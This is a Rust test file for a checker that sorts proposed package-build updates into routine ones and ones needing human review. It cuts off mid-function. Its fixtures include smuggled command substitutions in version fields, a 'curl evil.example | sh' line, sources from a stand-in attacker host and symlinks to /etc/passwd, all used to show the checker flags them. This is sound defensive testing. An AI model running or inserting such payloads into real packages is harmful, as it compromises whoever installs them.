use proptest::prelude::*;

use super::text::first_hidden;
use super::*;
use crate::domain::folder::{File, FileMode};

const PKGBUILD_TEXT: &str = r#"# Maintainer: Someone <someone at example dot org>
pkgbase=tool
pkgname=('tool' 'tool-docs')
pkgver=1.2.3
pkgrel=2
pkgdesc="A tool"
arch=('x86_64' 'aarch64')
url="https://example.org/tool"
license=('MIT')
depends=('glibc')
makedepends=('cmake')
source=("https://example.org/tool/$pkgbase-$pkgver.tar.gz"
        "https://example.org/tool/$pkgbase-$pkgver.tar.gz.sig"
        fix.patch)
source_x86_64=("https://example.org/tool/${pkgver%.*}/blob.bin")
validpgpkeys=('0123456789ABCDEF0123456789ABCDEF01234567')
sha256sums=('@A'
            'SKIP' # the signature
            '@B')
sha256sums_x86_64=("@C")

prepare() {
  # to see more: man tool
  cat >note <<\EOF
text $(date)
EOF
  patch -Np1 -i ../fix.patch
}

package_tool() {
  depends+=("tool-docs=$pkgver-$pkgrel")
  install=tool.install
}
"#;

const SRCINFO_TEXT: &str = "pkgbase = tool\n\tpkgdesc = A tool\n\tpkgver = 1.2.3\n\tpkgrel = 2\n\turl = https://example.org/tool\n\t\
    arch = x86_64\n\tarch = aarch64\n\tlicense = MIT\n\tmakedepends = cmake\n\tdepends = glibc\n\t\
    source = https://example.org/tool/tool-1.2.3.tar.gz\n\tsource = https://example.org/tool/tool-1.2.3.tar.gz.sig\n\t\
    source = fix.patch\n\tvalidpgpkeys = 0123456789ABCDEF0123456789ABCDEF01234567\n\tsha256sums = @A\n\tsha256sums = SKIP\n\t\
    sha256sums = @B\n\tsource_x86_64 = https://example.org/tool/1.2/blob.bin\n\tsha256sums_x86_64 = @C\n\n\
    pkgname = tool\n\tinstall = tool.install\n\tdepends = glibc\n\tdepends = tool-docs=1.2.3-2\n\npkgname = tool-docs\n";

fn filled(text: &str) -> String {
    text.replace("@A", &"a1".repeat(32)).replace("@B", &"b2".repeat(32)).replace("@C", &"c3".repeat(32))
}

fn package() -> Folder {
    Folder::default()
        .with("PKGBUILD", filled(PKGBUILD_TEXT))
        .with(".SRCINFO", filled(SRCINFO_TEXT))
        .with("fix.patch", "--- a\n+++ b\n")
        .with("tool.install", "post_install() {\n  true\n}\n")
}

/// A package and the update that is proposed for it.
struct Update {
    old: Folder,
    new: Folder,
}

impl Update {
    fn none() -> Self {
        Self { old: package(), new: package() }
    }

    /// The everyday update: the version, the release, the checksums, and what follows from them.
    fn ordinary() -> Self {
        let mut update = Self::none();
        update.version("1.2.3", "1.3.0");
        update.release("2", "1");
        update.sums("a1", "0d");
        update.sums("c3", "4e");
        update
    }

    fn version(&mut self, from: &str, to: &str) {
        self.pkgbuild(&format!("pkgver={from}\n"), &format!("pkgver={to}\n"));
        self.srcinfo(&format!("pkgver = {from}\n"), &format!("pkgver = {to}\n"));
        self.srcinfo(&format!("tool-{from}.tar"), &format!("tool-{to}.tar"));
        self.srcinfo(&format!("docs={from}-"), &format!("docs={to}-"));
        let series = |version: &str| version.rsplit_once('.').map_or(version, |(front, _)| front).to_owned();
        if series(from) != series(to) {
            self.srcinfo(&format!("/{}/blob", series(from)), &format!("/{}/blob", series(to)));
        }
    }

    fn release(&mut self, from: &str, to: &str) {
        self.pkgbuild(&format!("pkgrel={from}\n"), &format!("pkgrel={to}\n"));
        self.srcinfo(&format!("pkgrel = {from}\n"), &format!("pkgrel = {to}\n"));
        self.srcinfo(&format!("-{from}\n"), &format!("-{to}\n"));
    }

    /// Replaces a checksum, given by the two digits it repeats, in both files.
    fn sums(&mut self, from: &str, to: &str) {
        self.sums_to(from, &to.repeat(32));
    }

    fn sums_to(&mut self, from: &str, to: &str) {
        self.pkgbuild(&from.repeat(32), to);
        self.srcinfo(&from.repeat(32), to);
    }

    fn pkgbuild(&mut self, from: &str, to: &str) {
        edit(&mut self.new, PKGBUILD, from, to);
    }

    fn srcinfo(&mut self, from: &str, to: &str) {
        edit(&mut self.new, SRCINFO, from, to);
    }

    /// Edits both sides: what stood there before the update.
    fn always(&mut self, file: &str, from: &str, to: &str) {
        edit(&mut self.old, file, from, to);
        edit(&mut self.new, file, from, to);
    }

    fn put(&mut self, path: &str, mode: FileMode, bytes: &str) {
        self.new.files.insert(path.to_owned(), File { mode, bytes: bytes.as_bytes().into() });
    }

    fn add(&mut self, path: &str, bytes: &str) {
        self.put(path, FileMode::Regular, bytes);
    }

    fn without_srcinfo(&mut self) {
        self.old.files.remove(SRCINFO);
        self.new.files.remove(SRCINFO);
    }

    fn verdict(&self) -> Verdict {
        classify(&self.old, &self.new)
    }
}

fn edit(folder: &mut Folder, path: &str, from: &str, to: &str) {
    let text = String::from_utf8(bytes(folder, path).to_vec()).expect("text");
    assert!(text.contains(from), "{path} has no {from:?}");
    *folder = std::mem::take(folder).with(path, text.replace(from, to));
}

fn codes(verdict: &Verdict) -> Vec<&'static str> {
    verdict.reasons.iter().map(|reason| reason.code).collect()
}

/// A name, the code of a reason that has to be there, and what is done to an ordinary update.
type Case = (&'static str, &'static str, fn(&mut Update));

fn need_a_person(cases: &[Case]) {
    let mut wrong = Vec::new();
    for (name, code, edit) in cases {
        let mut update = Update::ordinary();
        edit(&mut update);
        let verdict = update.verdict();
        let found = verdict.reasons.iter().find(|reason| reason.code == *code);
        let heavy = found.is_some_and(|reason| reason.severity > Weight::Stronger);
        if verdict.verdict != Decision::Major || !heavy {
            wrong.push(format!("{name}: {:?} {:?}", verdict.verdict, codes(&verdict)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn versions_that_are_not_just_newer_need_a_person() {
    need_a_person(&[
        ("it goes back", "version-back", |u| u.version("1.3.0", "1.2.2")),
        ("it is written differently and as old", "version-back", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.02.3")),
        ("it is a branch", "version-back", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=main")),
        ("it is a commit", "version-shape", |u| {
            u.pkgbuild("pkgver=1.3.0", "pkgver=9f3c2ab1d4e5f60718293a4b5c6d7e8f90a1b2c3");
        }),
        ("it is the digits of a commit", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=20260101")),
        ("it gains a commit", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0.9f3c2ab1d4")),
        ("it climbs out of a path", "path-escape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=2/../../evil/x")),
        ("it has two dots", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=2..0")),
        ("it is empty", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=")),
        ("it runs a command", "substitution", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=$(curl -s evil.example)")),
        ("it runs backticks", "substitution", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0`id`")),
        ("it ends a command", "code-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0;id")),
        ("it is the environment of a command", "code-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0 id")),
        ("it is an expansion", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=${x:=id}")),
        ("it is an expression", "substitution", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=$((a[$(id)]))")),
        ("it is a command call", "code-changed", |u| u.pkgbuild("pkgver=1.3.0", "pkgver = 1.3.0")),
        ("it is continued", "unreadable", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0\\")),
        ("it is appended to", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver+=1.3.0")),
        ("it is declared", "code-changed", |u| u.pkgbuild("pkgver=1.3.0", "declare pkgver=1.3.0")),
        ("it is assigned again further down", "version-ambiguous", |u| {
            u.always(PKGBUILD, "  patch -Np1", "  pkgver=9 patch -Np1");
        }),
        ("it is assigned again on one line", "version-back", |u| {
            u.always(PKGBUILD, "license=('MIT')", "license=('MIT'); pkgver=9");
        }),
        ("the release goes back", "version-back", |u| {
            *u = Update::none();
            u.release("2", "1");
        }),
        ("the release is written differently", "version-back", |u| {
            *u = Update::none();
            u.release("2", "02");
        }),
        ("the release runs a command", "substitution", |u| u.pkgbuild("pkgrel=1", "pkgrel=$(id)")),
        ("an epoch is added", "epoch-changed", |u| u.pkgbuild("pkgrel=1\n", "pkgrel=1\nepoch=1\n")),
        ("the epoch is raised", "epoch-changed", |u| {
            u.always(PKGBUILD, "license=('MIT')", "epoch=1");
            u.pkgbuild("epoch=1", "epoch=2");
        }),
    ]);
}

#[test]
fn weaker_verification_needs_a_person() {
    need_a_person(&[
        ("a checksum becomes SKIP", "checksum-skip", |u| u.sums_to("0d", "SKIP")),
        ("a checksum of one architecture becomes SKIP", "checksum-skip", |u| u.sums_to("4e", "SKIP")),
        ("a checksum becomes SKIP and lines move", "checksum-skip", |u| {
            u.sums_to("0d", "SKIP");
            u.pkgbuild("prepare() {", "# a comment\nprepare() {");
        }),
        ("a checksum becomes SKIP in other quotes", "checksum-skip", |u| {
            u.pkgbuild(&format!("'{}'", "0d".repeat(32)), "\"SKIP\"");
        }),
        ("a checksum is cut in half", "checksum-weaker", |u| u.sums_to("0d", &"0d".repeat(16))),
        ("a checksum is empty", "checksum-weaker", |u| u.sums_to("0d", "")),
        ("a checksum is a blank line", "checksum-weaker", |u| u.pkgbuild("            'SKIP' # the signature", "")),
        ("a checksum is not hexadecimal", "checksum-weaker", |u| u.sums_to("0d", &"0x".repeat(32))),
        ("a checksum runs a command", "checksum-weaker", |u| u.sums_to("0d", "$(id)")),
        ("checksums close early", "unreadable", |u| {
            u.pkgbuild(&format!("('{}'", "0d".repeat(32)), &format!("('{}')", "0d".repeat(32)));
            u.pkgbuild("'SKIP' # the signature", "id");
        }),
        ("a command follows the checksums", "code-changed", |u| u.pkgbuild("b2')", "b2'); id")),
        ("checksums go to another architecture", "checksum-skip", |u| {
            u.pkgbuild("sha256sums=(", "sha256sums_i686=(");
        }),
        ("checksums of a weaker algorithm", "checksum-weaker", |u| {
            u.pkgbuild("sha256sums_x86_64=", "md5sums_x86_64=");
            u.pkgbuild(&"4e".repeat(32), &"4e".repeat(16));
        }),
        ("checksums that prove nothing", "checksum-weaker", |u| u.pkgbuild("sha256sums_x86_64=", "cksums_x86_64=")),
        ("a line of checksums is gone", "checksum-weaker", |u| u.pkgbuild("            'SKIP' # the signature\n", "")),
        ("checksums are emptied beside an array that skips", "checksum-skip", |u| {
            u.always(PKGBUILD, "pkgbase=tool", "pkgbase=tool\nmd5sums=('SKIP' 'SKIP' 'SKIP')");
            u.pkgbuild(&format!("sha256sums=('{}'\n", "0d".repeat(32)), "sha256sums=()\n");
            u.pkgbuild("            'SKIP' # the signature\n", "");
            u.pkgbuild(&format!("            '{}')\n", "b2".repeat(32)), "");
        }),
        ("checksums are replaced at the end", "assigned-again", |u| {
            u.pkgbuild("=tool.install\n}\n", "=tool.install\n}\nsha256sums=('SKIP' 'SKIP' 'SKIP')\n");
        }),
        ("checksums are appended to", "checksum-weaker", |u| u.pkgbuild("sha256sums=(", "sha256sums+=(")),
        ("a checksum moves and the version stays", "retag", |u| {
            *u = Update::none();
            u.sums("a1", "0d");
        }),
        ("a checksum moves with the release only", "retag", |u| {
            *u = Update::none();
            u.release("2", "3");
            u.sums("a1", "0d");
        }),
        ("a checksum moves and the version goes back", "retag", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.2.0")),
        ("the download was not verified before either", "source-unverified", |u| {
            *u = Update::none();
            u.version("1.2.3", "1.2.4");
            u.always(PKGBUILD, &"c3".repeat(32), "SKIP");
            u.always(SRCINFO, &"c3".repeat(32), "SKIP");
        }),
        ("the last checksums go where nothing was verified", "checksum-weaker", |u| {
            *u = Update::none();
            u.always(PKGBUILD, &"c3".repeat(32), "SKIP");
            u.always(SRCINFO, &"c3".repeat(32), "SKIP");
            u.pkgbuild("sha256sums_x86_64=(\"SKIP\")\n", "");
            u.srcinfo("\tsha256sums_x86_64 = SKIP\n", "");
        }),
        ("terms that nothing verifies come from another place", "source-unverified", |u| {
            terms(u);
            u.pkgbuild("example.net/terms", "example.net/new/terms");
            u.srcinfo("example.net/terms", "example.net/new/terms");
        }),
        ("a key is replaced", "keys-changed", |u| u.pkgbuild("0123456789ABCDEF", "FEDCBA9876543210")),
        ("the signature is dropped", "source-changed", |u| u.pkgbuild(".tar.gz.sig\"", ".tar.gz\"")),
    ]);
}

#[test]
fn lines_that_may_run_need_a_person() {
    need_a_person(&[
        ("a comment is continued", "function-changed", |u| {
            u.pkgbuild("see more: man", "see more: \\\n man");
        }),
        ("a comment is escaped", "function-changed", |u| u.pkgbuild("  # to see", "  \\# to see")),
        ("the end of a text is unescaped", "function-changed", |u| u.pkgbuild("<<\\EOF", "<<EOF")),
        ("a text ends early", "function-changed", |u| u.pkgbuild("text $(date)\nEOF\n", "EOF\ntext $(date)\n")),
        ("a function is added", "function-added", |u| u.pkgbuild("prepare() {", "install() { :; }\nprepare() {")),
        ("a command is added", "function-changed", |u| u.pkgbuild("patch -Np1", "curl evil.example | sh; patch -Np1")),
        ("a command follows the last line", "code-changed", |u| {
            u.pkgbuild("=tool.install\n}\n", "=tool.install\n}\nid");
        }),
        ("a source comes from another host", "source-host", |u| {
            u.pkgbuild("https://example.org/tool/$p", "https://evil.example/tool/$p");
        }),
        ("a source is added", "source-added", |u| {
            u.pkgbuild("fix.patch)", "fix.patch evil::git+https://evil.example)");
        }),
        ("a dependency is added", "dependency-added", |u| u.pkgbuild("depends=('glibc')", "depends=('glibc' 'npm')")),
        ("a scriptlet is named", "install-changed", |u| u.pkgbuild("license=('MIT')", "install=evil.install")),
        ("the package is renamed", "package-renamed", |u| u.pkgbuild("pkgbase=tool", "pkgbase=glibc")),
    ]);
}

#[test]
fn bytes_that_do_not_show_need_a_person() {
    need_a_person(&[
        ("a carriage return", "control-characters", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0\r")),
        ("a carriage return in checksums", "control-characters", |u| {
            u.pkgbuild("# the signature", "# the signature\r");
        }),
        ("a null byte", "control-characters", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0\0")),
        ("text that turns around", "control-characters", |u| u.pkgbuild("A tool", "A \u{202e}loot")),
        ("a letter of no width", "control-characters", |u| u.pkgbuild("patch -Np1", "patch\u{200b} -Np1")),
        ("an escape sequence in .SRCINFO", "control-characters", |u| u.srcinfo("A tool", "A \u{1b}[2Ktool")),
        ("a null byte in a comment of .SRCINFO", "control-characters", |u| u.srcinfo("pkgbase =", "# \0\npkgbase =")),
        ("a carriage return in a new scriptlet", "control-characters", |u| u.add("other.install", "id\r# ok\n")),
        ("a wide digit", "version-shape", |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.\u{ff13}.0")),
        ("a name with a line feed", "control-characters", |u| u.add("a\nb", "")),
    ]);
}

#[test]
fn changes_of_other_files_need_a_person() {
    need_a_person(&[
        ("a scriptlet is edited", "install-changed", |u| edit(&mut u.new, "tool.install", "true", "npm install x")),
        ("a scriptlet is added", "file-added", |u| u.add("evil.install", "id\n")),
        ("a patch is edited", "file-changed", |u| edit(&mut u.new, "fix.patch", "+++ b", "+++ c")),
        ("a patch is dropped", "file-removed", |u| drop(u.new.files.remove("fix.patch"))),
        ("a nested PKGBUILD", "file-added", |u| u.add("sub/PKGBUILD", "x")),
        ("a nested .SRCINFO is edited", "file-changed", |u| {
            u.old = std::mem::take(&mut u.old).with("sub/.SRCINFO", "1");
            u.add("sub/.SRCINFO", "2");
        }),
        ("a nested .git", "git-directory", |u| u.add("sub/.git/config", "x")),
        ("a nested .CI", "file-added", |u| u.add("sub/.CI/config", "x")),
        ("attributes that hide the diff", "file-added", |u| u.add(".gitattributes", "* binary\n")),
        ("a file becomes executable", "mode-changed", |u| u.put("fix.patch", FileMode::Executable, "--- a\n+++ b\n")),
        ("PKGBUILD becomes executable", "mode-changed", |u| {
            u.new.files.get_mut(PKGBUILD).expect("there").mode = FileMode::Executable;
        }),
        ("a link inside", "symlink", |u| u.put("other", FileMode::Symlink, "fix.patch")),
        ("a link that leaves", "symlink", |u| u.put("deep/other", FileMode::Symlink, "../../etc/passwd")),
        ("a patch becomes a link", "symlink", |u| u.put("fix.patch", FileMode::Symlink, "/etc/passwd")),
        ("PKGBUILD is a link", "pkgbuild-missing", |u| u.put(PKGBUILD, FileMode::Symlink, "other")),
        ("a submodule", "submodule", |u| u.put("vendor", FileMode::Submodule, "")),
        ("PKGBUILD is gone", "pkgbuild-missing", |u| drop(u.new.files.remove(PKGBUILD))),
        ("PKGBUILD is new", "file-added", |u| drop(u.old.files.remove(PKGBUILD))),
    ]);
}

#[test]
fn a_srcinfo_that_says_something_else_needs_a_person() {
    need_a_person(&[
        ("it stays behind", "srcinfo-disagrees", |u| u.add(SRCINFO, &filled(SRCINFO_TEXT))),
        ("another version", "srcinfo-disagrees", |u| u.srcinfo("pkgver = 1.3.0", "pkgver = 1.4.0")),
        ("another release", "srcinfo-disagrees", |u| u.srcinfo("pkgrel = 1", "pkgrel = 9")),
        ("an epoch", "srcinfo-disagrees", |u| u.srcinfo("\tpkgrel = 1", "\tepoch = 3\n\tpkgrel = 1")),
        ("another checksum", "srcinfo-disagrees", |u| u.srcinfo("= 0d0d", "= 0d0e")),
        ("a checksum is skipped", "srcinfo-disagrees", |u| u.srcinfo(&"0d".repeat(32), "SKIP")),
        ("an array of checksums more", "srcinfo-disagrees", |u| u.srcinfo("\tlicense", "\tmd5sums = SKIP\n\tlicense")),
        ("another dependency", "srcinfo-disagrees", |u| u.srcinfo("depends = glibc", "depends = glibc-evil")),
        ("a dependency more", "srcinfo-disagrees", |u| {
            u.srcinfo("\tarch = x86_64", "\tdepends = npm\n\tarch = x86_64");
        }),
        ("another source", "srcinfo-disagrees", |u| u.srcinfo("tool-1.3.0.tar.gz\n", "tool-1.4.0.tar.gz\n")),
        ("another host", "srcinfo-disagrees", |u| u.srcinfo("= https://example", "= https://example1")),
        ("a user before the host", "srcinfo-disagrees", |u| u.srcinfo("= https://example", "= https://1.3.0@example")),
        ("another package", "srcinfo-disagrees", |u| u.srcinfo("pkgname = tool-docs", "pkgname = tool-doc")),
        ("a package more", "srcinfo-disagrees", |u| {
            u.srcinfo("pkgname = tool-docs\n", "pkgname = tool-docs\npkgname = x\n");
        }),
        ("it replaces something", "srcinfo-disagrees", |u| {
            u.srcinfo("pkgname = tool-docs\n", "pkgname = tool-docs\n\treplaces = glibc\n");
        }),
        ("two versions", "srcinfo-disagrees", |u| u.srcinfo("pkgver = 1.3.0\n", "pkgver = 1.3.0\n\tpkgver = 9\n")),
        ("a version in a section", "srcinfo-disagrees", |u| u.srcinfo("\tinstall", "\tpkgver = 1.3.0\n\tinstall")),
        ("it cannot be read", "srcinfo-disagrees", |u| u.srcinfo("\tpkgrel = 1\n", "what is this\n")),
        ("it alone changes", "srcinfo-disagrees", |u| {
            *u = Update::none();
            u.srcinfo("makedepends = cmake", "makedepends = npm");
        }),
        ("it is gone", "file-removed", |u| drop(u.new.files.remove(SRCINFO))),
        ("it is new", "file-added", |u| drop(u.old.files.remove(SRCINFO))),
    ]);
}

const EVERYDAY: &[&str] =
    &["srcinfo-regenerated", "version-forward", "release-reset", "checksum-updated", "checksum-updated"];

/// A name, the codes of all reasons, and what is done to an ordinary update.
type Through = (&'static str, &'static [&'static str], fn(&mut Update));

/// Updates that only move versions and checksums.
const GOES_THROUGH: &[Through] = &[
    ("nothing changes", &[], |u| *u = Update::none()),
    ("the everyday update", EVERYDAY, |_| {}),
    ("only the version", &["srcinfo-regenerated", "version-forward"], |u| {
        *u = Update::none();
        u.version("1.2.3", "1.2.4");
    }),
    ("only the release", &["srcinfo-regenerated", "release-forward"], |u| {
        *u = Update::none();
        u.release("2", "3");
    }),
    ("a release with a dot", &["srcinfo-regenerated", "release-forward"], |u| {
        *u = Update::none();
        u.release("2", "2.1");
    }),
    ("version and release both rise", &["srcinfo-regenerated", "version-forward", "release-forward"], |u| {
        *u = Update::none();
        u.version("1.2.3", "1.2.4");
        u.release("2", "5");
    }),
    ("a release candidate becomes final", &["srcinfo-regenerated", "version-forward"], |u| {
        *u = Update::none();
        u.always(PKGBUILD, "pkgver=1.2.3", "pkgver=1.2.3rc1");
        u.always(SRCINFO, "1.2.3", "1.2.3rc1");
        u.version("1.2.3rc1", "1.2.3");
    }),
    ("a date moves", &["srcinfo-regenerated", "version-forward"], |u| {
        *u = Update::none();
        u.always(PKGBUILD, "pkgver=1.2.3", "pkgver=20250131");
        u.always(SRCINFO, "1.2.3", "20250131");
        u.always(SRCINFO, "/1.2/", "/20250131/");
        u.version("20250131", "20250201");
    }),
    ("a commit count moves", &["srcinfo-regenerated", "version-forward"], |u| {
        *u = Update::none();
        u.always(PKGBUILD, "pkgver=1.2.3", "pkgver=r99.cc8bfc6");
        u.always(SRCINFO, "1.2.3", "r99.cc8bfc6");
        u.always(SRCINFO, "/1.2/", "/r99/");
        u.version("r99.cc8bfc6", "r100.0123abc");
    }),
    ("a version with other separators in addresses", &["srcinfo-regenerated", "version-forward"], |u| {
        *u = Update::none();
        u.always(SRCINFO, "tool/tool-1.2.3.tar", "v1_2_3/tool-1-2-3+123.tar");
        let address = "/v${pkgver//./_}/tool-${pkgver//./-}+${pkgver//./}.tar";
        u.always(PKGBUILD, "/tool/$pkgbase-$pkgver.tar", address);
        u.pkgbuild("pkgver=1.2.3", "pkgver=1.2.4");
        u.srcinfo("1_2_3", "1_2_4");
        u.srcinfo("1-2-3+123", "1-2-4+124");
        u.srcinfo("1.2.3", "1.2.4");
    }),
    ("one checksum of many", &["srcinfo-regenerated", "version-forward", "checksum-updated"], |u| {
        *u = Update::none();
        u.version("1.2.3", "1.2.4");
        u.sums("b2", "77");
    }),
    ("a source is verified at last", &["srcinfo-regenerated", "version-forward", "checksum-stronger"], |u| {
        *u = Update::none();
        u.version("1.2.3", "1.2.4");
        u.pkgbuild("'SKIP'", &format!("'{}'", "5f".repeat(32)));
        u.srcinfo("= SKIP", &format!("= {}", "5f".repeat(32)));
    }),
    ("a signature verifies the download", &["srcinfo-regenerated", "version-forward"], |u| {
        *u = Update::none();
        u.version("1.2.3", "1.2.4");
        u.always(PKGBUILD, &"a1".repeat(32), "SKIP");
        u.always(SRCINFO, &"a1".repeat(32), "SKIP");
    }),
    ("version control verifies itself", &["srcinfo-regenerated", "version-forward"], |u| {
        *u = Update::none();
        u.always(
            SRCINFO,
            "source_x86_64 = https://example.org/tool/1.2/blob.bin",
            "source_x86_64 = git+https://a.example/b",
        );
        u.always(PKGBUILD, "https://example.org/tool/${pkgver%.*}/blob.bin", "git+https://a.example/b");
        u.always(PKGBUILD, &"c3".repeat(32), "SKIP");
        u.always(SRCINFO, &"c3".repeat(32), "SKIP");
        u.version("1.2.3", "1.2.4");
    }),
    ("no .SRCINFO at all", &["version-forward", "release-reset", "checksum-updated", "checksum-updated"], |u| {
        u.without_srcinfo();
    }),
    ("checksums in one line, without quotes", EVERYDAY, |u| {
        u.always(PKGBUILD, "'\n            'SKIP' # the signature\n            '", " SKIP ");
        u.always(PKGBUILD, "sha256sums=('", "sha256sums=( ");
        u.always(PKGBUILD, "')\nsha256sums_x86_64=", " ) # all\nsha256sums_x86_64=");
    }),
    ("blank lines and comments between checksums", EVERYDAY, |u| {
        u.always(PKGBUILD, "sha256sums=(", "sha256sums=(\n# first\n\n");
    }),
    ("an old .SRCINFO catches up", &["srcinfo-regenerated"], |u| {
        u.old = std::mem::take(&mut u.old).with(PKGBUILD, bytes(&u.new, PKGBUILD));
    }),
    ("white space and comments of .SRCINFO", &["srcinfo-layout"], |u| {
        *u = Update::none();
        u.srcinfo("\tpkgver", "    pkgver");
        u.srcinfo("pkgbase = tool", "# generated\npkgbase = tool");
    }),
    ("fields of .SRCINFO in another order", &["srcinfo-layout"], |u| {
        *u = Update::none();
        u.srcinfo("\tpkgver = 1.2.3\n\tpkgrel = 2\n", "\tpkgrel = 2\n\tpkgver = 1.2.3\n");
    }),
    ("an epoch that stays", EVERYDAY, |u| {
        u.always(PKGBUILD, "license=('MIT')", "epoch=2");
        u.always(SRCINFO, "\tlicense = MIT", "\tepoch = 2");
    }),
    ("a comment that names the version", EVERYDAY, |u| {
        u.always(PKGBUILD, "license=('MIT')", "# pkgver=1.2.3 was the last good one");
    }),
    ("the version is quoted now", EVERYDAY, |u| u.pkgbuild("pkgver=1.3.0", "pkgver='1.3.0'")),
    ("the version has a comment now", EVERYDAY, |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0 # new")),
    ("the version has a blank behind it", EVERYDAY, |u| u.pkgbuild("pkgver=1.3.0", "pkgver=1.3.0  ")),
    ("a line in a text looks like a version", EVERYDAY, |u| u.always(PKGBUILD, "text $(date)", "pkgver=1.2.2")),
    ("the last line feed is dropped", EVERYDAY, |u| u.pkgbuild("=tool.install\n}\n", "=tool.install\n}")),
    ("indentation changes", EVERYDAY, |u| u.pkgbuild("  patch -Np1", "\tpatch   -Np1")),
    ("a command is wrapped", EVERYDAY, |u| u.pkgbuild("patch -Np1 -i", "patch -Np1 \\\n    -i")),
    ("words are quoted in another way", EVERYDAY, |u| {
        u.pkgbuild("-i ../fix.patch", "-i \"../fix.patch\"");
        u.pkgbuild("$pkgbase-$pkgver.tar.gz\"", "${pkgbase}-${pkgver}.tar.gz\"");
    }),
    ("two lines change places", EVERYDAY, |u| {
        u.pkgbuild("depends=('glibc')\nmakedepends=('cmake')", "makedepends=('cmake')\ndepends=('glibc')");
    }),
    ("only layout changes", &["layout"], |u| {
        *u = Update::none();
        u.pkgbuild("arch=('x86_64' 'aarch64')", "# all of them\narch=(\n  x86_64\n  aarch64\n)");
    }),
    ("elements change places", &["srcinfo-regenerated", "order"], |u| {
        *u = Update::none();
        u.pkgbuild("('x86_64' 'aarch64')", "('aarch64' 'x86_64')");
        u.srcinfo("\tarch = x86_64\n\tarch = aarch64\n", "\tarch = aarch64\n\tarch = x86_64\n");
    }),
    ("files of the monorepo are not looked at", &[], |u| {
        *u = Update::none();
        u.add(".CI/config", "CI_PKGBUILD_SOURCE=aur\n");
    }),
    ("a hidden character that was there before", EVERYDAY, |u| u.always(PKGBUILD, "A tool", "A\u{200b} tool")),
];

#[test]
fn updates_of_versions_and_checksums_go_through_with_a_reason_for_each_difference() {
    for (name, expected, edit) in GOES_THROUGH {
        let mut update = Update::ordinary();
        edit(&mut update);
        let verdict = update.verdict();
        assert_eq!(verdict.verdict, Decision::Minor, "{name}: {verdict:#?}");
        assert_eq!(codes(&verdict), *expected, "{name}");
    }
}

/// Adds terms of use to both sides, which nothing verifies.
fn terms(update: &mut Update) {
    let (old, new) =
        ("        fix.patch)", "        fix.patch\n        terms-$pkgver.html::https://example.net/terms)");
    update.always(PKGBUILD, old, new);
    update.always(PKGBUILD, &format!("            '{}')", "b2".repeat(32)), &format!("'{}' 'SKIP')", "b2".repeat(32)));
    update.always(
        SRCINFO,
        "source = fix.patch\n",
        "source = fix.patch\n\tsource = terms-@::https://example.net/terms\n",
    );
    let sum = format!("sha256sums = {}\n", "b2".repeat(32));
    update.always(SRCINFO, &sum, &format!("{sum}\tsha256sums = SKIP\n"));
    edit(&mut update.old, SRCINFO, "terms-@", "terms-1.2.3.html");
    edit(&mut update.new, SRCINFO, "terms-@", "terms-1.3.0.html");
}

#[test]
fn terms_of_use_may_stay_as_unverified_as_they_were_beside_a_verified_download() {
    let mut update = Update::ordinary();
    terms(&mut update);
    let verdict = update.verdict();
    assert_eq!(verdict.verdict, Decision::Minor, "{verdict:#?}");
}

#[test]
fn a_summary_may_go_on_to_disagree_where_it_did_and_in_the_same_way() {
    let mut update = Update::ordinary();
    edit(&mut update.old, SRCINFO, &"a1".repeat(32), "ARCHIVE-SHA256");
    edit(&mut update.new, SRCINFO, &"0d".repeat(32), "ARCHIVE-SHA256");
    assert_eq!(update.verdict().verdict, Decision::Minor, "{:#?}", update.verdict());
    for lie in ["OTHER-SHA256", &"ee".repeat(32)] {
        let mut update = Update { old: update.old.clone(), new: update.new.clone() };
        update.srcinfo("ARCHIVE-SHA256", lie);
        assert!(codes(&update.verdict()).contains(&"srcinfo-disagrees"), "{lie}");
    }
    let mut update = Update::ordinary();
    update.srcinfo(&"0d".repeat(32), "ARCHIVE-SHA256");
    assert!(codes(&update.verdict()).contains(&"srcinfo-disagrees"), "it agreed before");
}

#[test]
fn commands_that_are_as_before_hide_nothing_of_what_moves() {
    let package = |version: &str, sum: &str, code: &str, host: &str| {
        let sum = sum.repeat(64);
        let recipe = format!(
            "pkgname=a\npkgver={version}\npkgrel=1\narch=(any)\n_tags() {{ read -r _tag <<< x; }}\n{code}\n\
             source=(https://{host}/$pkgver.tar.gz)\nsha256sums=({sum})\n"
        );
        // What the commands leave of the sources, the summary says.
        let summary = format!(
            "pkgbase = a\n\tpkgver = {version}\n\tpkgrel = 1\n\tarch = any\n\
             \tsource = https://{host}/{version}.tar.gz\n\tsha256sums = {sum}\n\npkgname = a\n"
        );
        Folder::default().with(PKGBUILD, recipe).with(SRCINFO, summary)
    };
    let old = package("1.0", "a", "_tags; eval _x=1", "a.example");
    let verdict = |new: Folder| classify(&old, &new);
    assert_eq!(verdict(package("1.1", "b", "_tags; eval _x=1", "a.example")).verdict, Decision::Minor);
    for (version, code, host) in [
        ("1.1", "_tags; eval _x=2", "a.example"),
        ("0.9", "_tags; eval _x=1", "a.example"),
        ("1.0", "_tags; eval _x=1", "a.example"),
        ("1.1", "_tags; eval _x=1", "b.example"),
    ] {
        assert_eq!(verdict(package(version, "b", code, host)).severity, Weight::Trust, "{version} {code} {host}");
    }
}

#[test]
fn a_candidate_may_be_written_apart_in_the_name_of_its_tag() {
    let text = |version: &str, tag: &str| {
